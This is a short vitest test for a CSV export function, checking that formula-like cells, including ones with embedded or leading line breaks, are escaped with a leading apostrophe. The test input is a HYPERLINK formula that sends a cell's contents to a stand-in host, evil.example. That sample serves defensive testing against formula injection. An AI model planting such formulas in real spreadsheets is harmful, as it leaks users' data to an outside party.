import { describe, expect, it } from "vitest";
import { readSectionedCsv, writeCsv } from "./spreadsheet.ts";

describe("writeCsv (agenda exports)", () => {
  it("escapes a formula with a line break inside it and one after leading line breaks", () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,\n"Open")';
    const csv = writeCsv([{ key: "notes", sheetName: "Notities", columns: ["a", "b", "c"], rows: [[hyperlink, "\r\n+1", -5]] }]);
    const section = readSectionedCsv(csv.toString("utf-8")).get("notes");
    expect(section?.rows).toEqual([[`'${hyperlink}`, "'\r\n+1", "-5"]]);
  });
});
